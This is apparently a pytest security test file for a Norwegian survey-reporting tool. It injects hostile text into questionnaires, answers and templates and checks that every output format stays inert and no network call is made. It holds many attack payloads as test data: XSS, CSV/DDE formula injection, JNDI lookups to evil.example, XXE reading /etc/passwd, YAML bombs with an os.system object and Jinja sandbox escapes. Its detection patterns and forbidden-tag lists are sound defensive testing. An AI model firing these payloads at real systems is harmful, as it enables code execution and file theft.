"""Whoever wrote the answers, the questionnaire or the templates: nothing of theirs is carried out."""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import zipfile
from collections.abc import Mapping
from html.parser import HTMLParser
from pathlib import Path
from typing import NoReturn

import pytest
from defusedxml import ElementTree
from markdown_it import MarkdownIt
from tests.faults.scenario import HEADERS, OUTPUT, SURVEY, rows, write_responses, write_scenario

from nullpunkt.audit.pdftext import read_pdf
from nullpunkt.cli import run
from nullpunkt.disclosure.review import ReviewRow, review_from_csv, review_to_csv
from nullpunkt.errors import DefinitionError, NullpunktError
from nullpunkt.loading.languages import load_language
from nullpunkt.loading.projects import load_project
from nullpunkt.loading.surveys import check_survey
from nullpunkt.templating import TemplateProblem, render_html, render_markdown

fault = pytest.mark.fault

INJECTIONS = {
    "script": "<script>alert(1)</script>",
    "attribute": "\" onmouseover=alert(1) x='<img src=x onerror=alert(1)>",
    "end of style": "</style></title></svg>]]><iframe src=//evil.example>",
    "link": "[klikk](javascript:alert(1)) <javascript:alert(1)> ![x](http://evil.example/x.png)",
    "reference": "[a]: http://evil.example 'x'",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "jinja": "{{ 7*191 }}{% for x in [] %}{# #}",
    "typst": '#panic(1) #import "/etc/passwd" $x$ `#eval`',
    "entity": "&xxe; &lt;b&gt; <!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "field": "{title} {0} %s %n ${jndi:ldap://evil.example}",
    "letters": "\U0001f600 北京 عرب Ελλάδα",
    "control": "a\u202eb\u200b\u2028c\ufffe",
    "table": "a | b \\| c `d` *e* _f_ # g",
}


def poisoned(text: str) -> tuple[dict[str, object], list[list[str]], list[str]]:
    """Questionnaire, answers and headers in which every text that is free holds this one."""
    survey = json.loads(json.dumps(SURVEY))
    chapter = survey["chapters"][0]
    survey["title"] = f"Skjema {text}"
    chapter["title"] = f"Kapittel {text}"
    headers = list(HEADERS)
    for place, question in enumerate(chapter["questions"], 3):
        question["text"] = headers[place] = f"{text} {HEADERS[place]}"
    services = chapter["questions"][0]["options"]
    services[0]["text"] = f"{text} skole"
    levels = survey["scales"]["enig"]["options"]
    levels[3]["text"] = f"{text} enig"
    renamed = {"Skole": services[0]["text"], "Helt enig": levels[3]["text"]}
    return survey, [[renamed.get(cell, cell) for cell in row[:5]] + [text, row[6]] for row in rows()], headers


class Page(HTMLParser):
    """What a browser would act on."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.policy = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]
        told = dict(attrs)
        if told.get("http-equiv") == "Content-Security-Policy":
            self.policy = told.get("content") or ""


FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "base", "form", "link", "foreignobject", "template"}


def check_page(text: str, *, whole: bool) -> None:
    page = Page()
    page.feed(text)
    assert not page.tags & FORBIDDEN_TAGS
    for name, value in page.attributes:
        assert not name.startswith("on")
        if name in ("href", "src", "action", "xlink:href", "srcset"):
            assert value.startswith(("#", "data:image/", "figures/")), value
    if whole:
        assert "default-src 'none'" in page.policy
        assert "script-src" not in page.policy
        assert "unsafe" not in page.policy


OUR_TAGS = re.compile(r'<a id="[a-z0-9_-]+">|</a>')
"""places that links lead to"""


def check_markdown(text: str) -> None:
    """As a wiki would print it that lets HTML through."""
    waiting = MarkdownIt("commonmark", {"html": True}).enable("table").parse(text)
    while waiting:
        token = waiting.pop()
        waiting += token.children or []
        ours = token.type == "html_inline" and OUR_TAGS.fullmatch(token.content)
        assert ours or token.type not in ("html_block", "html_inline", "fence", "code_block"), token.content
        for name in ("href", "src"):
            assert str(token.attrs.get(name, "#")).startswith(("#", "figures/"))


def check_package(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            assert not name.startswith(("/", "..")), name
            part = package.read(name)
            if name.endswith((".xml", ".rels")):
                root = ElementTree.fromstring(part)
                tags = {element.tag.rpartition("}")[2] for element in root.iter()}
                if "worksheets/" in name:
                    assert "f" not in tags
                assert "externalLink" not in tags
            if name.endswith(".rels"):
                assert b"External" not in part
                assert b"evil.example" not in part
            if name.endswith((".xlsx", ".docx")):
                check_package(part)


def check_csv(text: str) -> None:
    for line in csv.reader(io.StringIO(text), delimiter=";"):
        for cell in line:
            number = re.fullmatch(r"-?\d+([.,]\d+)?(e-?\d+)?", cell)
            assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def check_all(folder: Path) -> int:
    """Every file of a report as its reader's program would open it; how many there were."""
    count = 0
    for path in sorted(path for path in folder.rglob("*") if path.is_file()):
        count += 1
        content = path.read_bytes()
        match path.suffix:
            case ".html":
                check_page(content.decode(), whole=True)
            case ".svg":
                ElementTree.fromstring(content)
                check_page(content.decode(), whole=False)
            case ".md":
                check_markdown(content.decode())
            case ".docx" | ".xlsx" | ".pptx":
                check_package(content)
            case ".csv":
                check_csv(content.decode("utf-8-sig"))
            case ".pdf":
                assert not re.search(rb"/(JavaScript|JS|Launch|SubmitForm|URI)\b", content)
                texts = "".join(read_pdf(content).texts)
                assert "1337" not in texts
            case ".json":
                json.loads(content)
        assert b"root:x:0:0" not in content
        assert not re.search(rb"(?<![\w.,])1337(?!\w)", content) or path.suffix in (
            ".pdf",
            ".docx",
            ".pptx",
            ".xlsx",
            ".html",
            ".svg",
        )
    return count


class Forbidden(socket.socket):
    """Whoever opens a connection fails the test; what processes of this machine say to each other is none."""

    def __init__(self, family: int = -1, *more: int, fileno: int | None = None) -> None:
        if family != getattr(socket, "AF_UNIX", None) and fileno is None:
            raise AssertionError("a run opened a connection")
        super().__init__(family, *more, fileno=fileno)


def refused(*_: object, **__: object) -> NoReturn:
    raise AssertionError("a run looked for a name on the network")


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(socket, "socket", Forbidden)
    monkeypatch.setattr(socket, "getaddrinfo", refused)


@fault(
    "HTML, Markdown, formulas, Jinja, Typst, entities, control signs in every text of answers, questionnaire and "
    "project; all formats; sockets forbidden",
    "plain text everywhere: no tag, link, formula, picture or request of theirs; strict CSP, no script",
)
@pytest.mark.parametrize("kind", INJECTIONS)
def test_injection_in_every_text(tmp_path: Path, kind: str, record_property: pytest.FixtureRequest) -> None:
    text = INJECTIONS[kind]
    survey, table, headers = poisoned(text)
    path = write_scenario(tmp_path, survey=survey, project={"name": f"{text} kommune\x0b\x01", "wave": text})
    write_responses(path, table, headers=headers)
    formats = (
        ["--format", "all"]
        if kind in ("script", "typst", "formula", "letters", "control")
        else ["--format", "html", "--format", "md"]
    )
    more = [] if "all" in formats else ["--format", "xlsx", "--format", "docx"]
    assert run(["analyse", str(path), *formats, *more, "--quiet", "--output", str(tmp_path / OUTPUT)]) == 0
    assert check_all(tmp_path / OUTPUT) >= 8
    assert "evil" not in (tmp_path / OUTPUT / "estimates.csv").read_text(encoding="utf-8-sig")


@fault(
    "formulas in free text that goes to the adviser's review (CSV)", "text to every spreadsheet, read back as written"
)
@pytest.mark.parametrize("start", ["=1+1", "+1", "-1", "@a", "\t=1", "\r=1", "=cmd|' /C calc'!A0"])
def test_formulas_in_the_review(start: str) -> None:
    text = review_to_csv([ReviewRow("q", start.strip(), (), approved=True)])
    check_csv(text)
    assert review_from_csv(text)[0].comment == start.strip()


BOMBS: Mapping[str, str] = {
    "billion laughs": "a: &a [x, x, x, x, x, x, x, x, x]\n"
    + "\n".join(f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join([f'*{chr(97 + n)}'] * 9)}]" for n in range(20)),
    "merge keys": "a: &a {x: 1}\nb:\n  <<: [*a, *a, *a]\n",
    "itself": "a: &a [*a]\n",
    "Python object": "a: !!python/object/apply:os.system ['touch /tmp/evil']\n",
    "deep": "[" * 100_000,
    "deep, closed": "a: " + "[" * 5_000 + "]" * 5_000,
    "long": "a: " + "x" * 3_000_000,
    "many keys": "".join(f"k{n}: 1\n" for n in range(60_000)),
    "two documents": "a: 1\n---\nb: 2\n",
    "NUL": "a: \0\n",
    "not text": "\udcff\udcfe",
    "lone surrogate": 'a: "\\ud800"\n',
    "empty": "",
    "only a comment": "# x\n",
}


def _survey(path: Path) -> None:
    problems = check_survey(path)
    if problems:
        raise DefinitionError("refused", problems=tuple(str(problem) for problem in problems))


def _language(path: Path) -> None:
    load_language(path.stem, path.parent)


@fault("YAML bombs and slips in questionnaires, project files and language files", "refused with the place")
@pytest.mark.parametrize("kind", BOMBS)
@pytest.mark.parametrize("name", ["skjema.yaml", "nullpunkt.yaml", "nb.yaml"])
def test_yaml_bombs(tmp_path: Path, kind: str, name: str) -> None:
    path = tmp_path / name
    path.write_bytes(BOMBS[kind].encode("utf-8", "surrogateescape"))
    load = {"skjema.yaml": _survey, "nullpunkt.yaml": load_project, "nb.yaml": _language}[name]
    if name == "nullpunkt.yaml" and kind in ("empty", "only a comment"):
        return
    with pytest.raises(NullpunktError) as told:
        load(path)
    assert len(str(told.value)) < 2_000


TEMPLATES = {
    "classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "globals": "{{ text.__globals__ }}",
    "code": "{{ text.__code__ }}",
    "attr": "{{ ''|attr('__class__') }}",
    "format": "{{ '{0.__class__}'.format('') }}{{ '{0.__class__.__mro__}'.format('').x }}",
    "file": "{% include '/etc/passwd' %}",
    "up": "{% include '../../../../etc/passwd' %}",
    "import": "{% import 'os' as os %}{{ os.system('true') }}",
    "change": "{{ things.append(1) }}",
    "endless": "{{ range(10**12)|list }}",
    "zero": "{{ 1/0 }}",
    "unknown": "{{ there_is_no_such_word }}",
    "syntax": "{% for %}",
    "type": "{{ 1 + 'a' }}",
    "itself": "{% include 'html/report.html.j2' %}{% include 'markdown/report.md.j2' %}",
}


@fault("templates that reach for the program or the disk", "refused by the sandbox, with the template's name")
@pytest.mark.parametrize("kind", TEMPLATES)
@pytest.mark.parametrize("name", ["html/report.html.j2", "markdown/report.md.j2"])
def test_templates_that_reach_out(tmp_path: Path, kind: str, name: str) -> None:
    path = tmp_path / name
    path.parent.mkdir()
    path.write_text(TEMPLATES[kind], encoding="utf-8")
    render = render_html if name.startswith("html") else render_markdown
    with pytest.raises(TemplateProblem, match=re.escape(name.rpartition("/")[0])):
        render(name, {"text": render_html, "things": [1]}, folder=tmp_path)


@fault("a language file whose texts reach into objects", "refused, with the text's key")
@pytest.mark.parametrize("text", ["{n.__class__}", "{n[0]}", "{0}", "{", "{unknown}"])
def test_language_texts_that_reach_out(tmp_path: Path, text: str) -> None:
    (tmp_path / "nb.yaml").write_text(json.dumps({"texts": {"terminal": {"written": text}}}), encoding="utf-8")
    with pytest.raises(DefinitionError, match="does not hold") as told:
        load_language("nb", tmp_path)
    assert any("terminal.written" in problem for problem in told.value.problems)
